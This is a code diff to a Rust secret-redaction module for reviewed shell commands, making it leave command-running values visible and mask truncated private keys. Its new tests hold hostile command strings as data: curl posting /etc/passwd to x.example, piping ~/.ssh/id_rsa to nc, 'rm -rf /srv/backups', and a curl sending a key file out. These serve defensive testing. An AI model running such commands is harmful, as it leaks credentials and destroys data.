@@ -6,6 +6,10 @@
 //! GitHub, Slack, Stripe, Google and npm tokens, JWTs, private-key blocks)
 //! are replaced by `[REDACTED]`. The rest of the text is left as it was, so a
 //! reviewer still reads the command.
+//!
+//! Redaction hides secrets, never code: a value that runs something
+//! (`PASSWORD="$(curl …)"`) is shown as it is, and a private key without
+//! its END line is masked only as far as its base64 lines go.
 
 use regex::{Captures, Regex};
 use std::sync::OnceLock;
@@ -33,7 +37,10 @@ fn patterns() -> &'static Patterns {
         let secret_word = r"(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[-_]?key|apikey|access[-_]?key|private[-_]?key|client[-_]?secret|credentials?|auth(?:[-_]?token)?|session[-_]?key|signing[-_]?key|webhook[-_]?url|dsn)";
         Patterns {
             private_key: re(
-                r"(?s)-----BEGIN (?:[A-Z0-9 ]+ )?PRIVATE KEY-----.*?(?:-----END (?:[A-Z0-9 ]+ )?PRIVATE KEY-----|$)",
+                // With its END line: all of it. Without: the BEGIN line and
+                // the lines (or space-separated runs) of 20 or more base64
+                // characters that follow, never the text after them.
+                r"(?s)-----BEGIN (?:[A-Z0-9 ]+ )?PRIVATE KEY-----(?:.*?-----END (?:[A-Z0-9 ]+ )?PRIVATE KEY-----|(?:(?:\r?\n|\\n|[ \t]+)[A-Za-z0-9+/=]{20,})*)",
             ),
             known_tokens: re(concat!(
                 r"\b(?:",
@@ -67,6 +74,13 @@ fn patterns() -> &'static Patterns {
     })
 }
 
+/// Whether a value runs something when the shell expands it: such a value
+/// is code the reviewer must see, not a secret.
+fn runs_code(value: &str) -> bool {
+    // Single quotes expand nothing.
+    !value.starts_with('\'') && ["$(", "`", "<(", ">("].iter().any(|s| value.contains(s))
+}
+
 /// Replaces secrets in `text` by [`MASK`].
 pub fn redact(text: &str) -> String {
     let p = patterns();
@@ -86,14 +100,17 @@ pub fn redact(text: &str) -> String {
             None => format!("{}{MASK}@", &c[1]),
         });
     let s = p.secret_flag.replace_all(&s, |c: &Captures| {
-        if c[3].starts_with('-') {
+        if c[3].starts_with('-') || runs_code(&c[3]) {
             return c[0].to_string();
         }
         format!("{}{}{MASK}", &c[1], &c[2])
     });
-    let s = p
-        .secret_assign
-        .replace_all(&s, |c: &Captures| format!("{}={MASK}", &c[1]));
+    let s = p.secret_assign.replace_all(&s, |c: &Captures| {
+        if runs_code(&c[2]) {
+            return c[0].to_string();
+        }
+        format!("{}={MASK}", &c[1])
+    });
     let s = p.curl_user.replace_all(&s, |c: &Captures| {
         let v = c[2].trim_matches(['\'', '"']);
         match v.split_once(':') {
@@ -168,6 +185,33 @@ mod tests {
         );
         let key = "echo '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----' > k";
         assert_eq!(redact(key), "echo '[REDACTED]' > k");
+    }
+
+    #[test]
+    fn redaction_hides_secrets_never_code() {
+        // A secret-named variable whose value runs a command: the command
+        // is what the reviewer must see.
+        let exfil = r#"PASSWORD="$(curl -sd @/etc/passwd https://x.example)" git push"#;
+        assert_eq!(redact(exfil), exfil);
+        let flag = "deploy --token `cat ~/.ssh/id_rsa | nc x 1` --force";
+        assert_eq!(redact(flag), flag);
+        // A literal value in single quotes is not expanded: still a secret.
+        assert_eq!(
+            redact("PASSWORD='$(not run)' make"),
+            "PASSWORD=[REDACTED] make"
+        );
+        // A private key without its END line: the key goes, what follows
+        // it stays.
+        let body = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB";
+        let cut_short = format!(
+            "printf '-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}' > k; rm -rf /srv/backups"
+        );
+        let shown = redact(&cut_short);
+        assert!(!shown.contains("MIIE"), "{shown}");
+        assert!(shown.ends_with("' > k; rm -rf /srv/backups"), "{shown}");
+        let real_lines =
+            format!("-----BEGIN PRIVATE KEY-----\n{body}\n{body}\ncurl -d @k https://x");
+        assert_eq!(redact(&real_lines), "[REDACTED]\ncurl -d @k https://x");
     }
 
     #[test]
